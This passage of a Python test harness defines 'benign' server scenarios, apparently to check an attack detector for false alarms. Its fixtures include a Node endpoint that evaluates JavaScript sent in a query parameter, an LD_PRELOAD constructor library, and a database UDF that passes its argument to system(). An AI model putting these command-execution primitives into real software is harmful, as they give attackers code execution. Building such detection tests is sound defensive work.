    stage.daemon("mkdir -p /etc/letsencrypt/live; echo x > /etc/letsencrypt/live/c.pem; "
                 "curl -sk -m 1 https://203.0.113.80/; nginx -s reload; logger renewed")
    time.sleep(1)
    peer.close()


@benign("b115-monitoring", "A monitoring agent checks servers", apache)
def _(stage):
    stage.daemon("curl -s http://198.51.100.23/server-status; pgrep -c apache2; apachectl status; "
                 "apache2 -v; df -h; uptime; ss -ltn; ps aux | grep apache2; id www-data")


@benign("b116-node-application", "A Node application runs git and asks an allowed interface", node,
        site={"baseline": [{"child": "/bin/sh", "args": "/bin/sh -c git *"},
                           {"child": "/usr/bin/git"}]})
def _(stage):
    peer = Peer((API, 443))
    stage.http(f"http://{HOST}:3000/e?c=" + urllib.parse.quote(
        "require('child_process').execSync('git --version');"
        "require('net').connect(443,'203.0.113.80').on('error',()=>0)"))
    peer.close()


@benign("b117-postgres-backup", "archive_command copies, pg_dump runs from cron", postgres)
def _(stage):
    stage.daemon("su postgres -c 'pg_dump postgres > /tmp/d.sql; psql -c vacuum'")
    sql(stage, "SELECT 1")


@benign("b118-apache-cgi", "A CGI program that the site knows", apache,
        site={"baseline": [{"server": "/usr/sbin/apache2", "child": "/usr/lib/cgi-bin/status.sh"},
                           {"child": "/usr/bin/uptime"}, {"child": "/usr/bin/df"}]})
def _(stage):
    path = pathlib.Path("/usr/lib/cgi-bin/status.sh")
    path.write_text("#!/bin/sh\necho Content-Type: text/plain\necho\nuptime\ndf -h\n")
    path.chmod(0o755)
    stage.daemon("a2enmod cgi; apachectl graceful")
    time.sleep(1)
    stage.http(f"http://{HOST}/cgi-bin/status.sh")


@benign("b119-config-edited", "An administrator edits a virtual host and a PHP setting", php)
def _(stage):
    stage.admin("sed -i 's/listen 198.51.100.23:8081/listen 198.51.100.23:8081 default_server/' "
                "/etc/nginx/conf.d/site.conf; nginx -t && nginx -s reload")
    stage.admin("echo 'memory_limit=256M' > /etc/php/8.2/fpm/conf.d/90-site.ini; "
                "kill -USR2 $(cat /run/php/php8.2-fpm.pid)")
    time.sleep(1)


@benign("b120-tomcat-deployment", "An administrator deploys an application", tomcat)
def _(stage):
    stage.admin("cp /root/cache-stats-1.2/shop.war /var/lib/tomcat10/webapps/shop.war")
    time.sleep(12)
    stage.http(f"http://{HOST}:8080/shop/")


@benign("b121-backup", "A backup job reads the servers' folders", php)
def _(stage):
    stage.daemon("tar czf /tmp/etc.tgz /etc/nginx /etc/php /var/www 2>/dev/null; "
                 "rsync -a /var/www/ /tmp/copy/ 2>/dev/null; find /etc/nginx -newer /etc/passwd")


@benign("b122-mariadb", "MariaDB is queried and dumped", mariadb)
def _(stage):
    stage.daemon("mariadb-dump --all-databases > /tmp/all.sql; mariadb -e 'SHOW PLUGINS' >/dev/null")


@benign("b123-php-worker-dies", "A PHP worker dies once, nothing was placed", php,
        logs={"php-fpm.log": "/var/log/php8.2-fpm.log"})
def _(stage):
    page("down.php", "<?php posix_kill(getmypid(), 11);")
    stage.http(f"http://{HOST}:8081/down.php", 1.5)


@benign("b124-nginx-binary-upgrade", "nginx is replaced while it runs", nginx)
def _(stage):
    stage.daemon("kill -USR2 $(cat /run/nginx.pid); sleep 1; kill -QUIT $(cat /run/nginx.pid.oldbin)")
    time.sleep(1)
    stage.http(f"http://{HOST}:8081/")


@benign("b125-apache-proxy", "Apache passes requests to an application inside", apache)
def _(stage):
    peer = Peer((INTERNAL, 8080))
    stage.admin("a2enmod proxy proxy_http")
    stage.admin("printf '%s\\n' 'ProxyPass /app http://192.0.2.10:8080/' > "
                "/etc/apache2/conf-enabled/app.conf; apachectl graceful")
    time.sleep(1.5)
    for _ in range(8):
        stage.http(f"http://{HOST}/app", 0.2)
    peer.close()


@benign("b126-mod-php", "mod_php sends mail and makes thumbnails", apache)
def _(stage):
    page("m.php", "<?php mail('a@b','c','d'); exec('convert in.png out.png');")
    stage.admin("a2dismod -q mpm_event; a2enmod -q mpm_prefork php8.2; apachectl restart")
    time.sleep(2)
    stage.http(f"http://{HOST}/m.php")


@benign("b127-nginx-log-switched-off", "An administrator switches a log off for one location", nginx)
def _(stage):
    stage.admin("printf '%s' 'server { listen 198.51.100.23:8084; location /ping { access_log off; "
                "return 200; } }' > /etc/nginx/conf.d/ping.conf; nginx -t && nginx -s reload")
    time.sleep(1)
    stage.http(f"http://{HOST}:8084/ping")


@benign("b128-packages-reinstalled", "apt reinstalls Apache and PHP packages, servers are restarted",
        apache)
def _(stage):
    stage.daemon("dpkg -i /root/libapache2-mod-demo.deb; dpkg-reconfigure -f noninteractive "
                 "apache2 2>&1; apachectl restart; needrestart -b 2>/dev/null; true")
    time.sleep(1.5)


def build():
    """What the scenarios bring along."""
    here = os.path.dirname(os.path.abspath(__file__))
    os.makedirs("/root/cache-stats-1.2", exist_ok=True)
    sh(f"gcc -shared -fPIC -O1 -D_LARGEFILE64_SOURCE -I$(apxs -q INCLUDEDIR) -I/usr/include/apr-1.0 "
       f"-o {MODULE} {here}/mod_cache_stats.c -luring")
    pathlib.Path("/tmp/l.c").write_text(
        "#include <stdlib.h>\n__attribute__((constructor)) static void run(void){"
        "unsetenv(\"LD_PRELOAD\");if(system(\"id; uname -a\")){}}\n")
    sh("gcc -shared -fPIC -o /root/cache-stats-1.2/libcache.so /tmp/l.c")
    pathlib.Path("/tmp/u.c").write_text(
        "#include <stdlib.h>\ntypedef struct{unsigned n;int*t;char**a;}A;int gw_exec_init(void*i,A*a,"
        "char*m){return 0;}long long gw_exec(void*i,A*a,char*n,char*e){return system(a->a[0]);}\n")
    sh("gcc -shared -fPIC -o /root/cache-stats-1.2/gwudf.so /tmp/u.c")
    sh("mkdir -p /tmp/war && echo '<html>shop</html>' > /tmp/war/index.html && cd /tmp/war && "
       "python3 -c \"import zipfile;z=zipfile.ZipFile('/root/cache-stats-1.2/shop.war','w');"
       "z.write('index.html')\"")
    sh("mkdir -p /tmp/deb/DEBIAN /tmp/deb/usr/lib/apache2/modules /tmp/deb/etc/apache2/mods-available; "
       f"cp {MODULE} /tmp/deb/usr/lib/apache2/modules/mod_demo.so; printf '%s\\n' 'LoadModule "
       "cache_stats_module /usr/lib/apache2/modules/mod_demo.so' > "
       "/tmp/deb/etc/apache2/mods-available/demo.load; printf '%s\\n' 'Package: libapache2-mod-demo' "
       "'Version: 1' 'Architecture: all' 'Maintainer: x <x@example.net>' 'Description: x' > "
       "/tmp/deb/DEBIAN/control; dpkg-deb -b /tmp/deb /root/libapache2-mod-demo.deb")


def main():
    out, names = sys.argv[1], sys.argv[2:]
    audit = Audit()
    space = network()
    workshop()
    build()
    enter_network(space)
    for each in ALL:
        if not names or any(each.name.startswith(name) for name in names):
            if (pid := os.fork()) == 0:
                try:
                    copies()
                    audit.start()
                    record(each, out, audit)
                    os._exit(0)
                except Exception:
                    traceback.print_exc()
                    os._exit(1)
            os.waitpid(pid, 0)


if __name__ == "__main__":
    main()
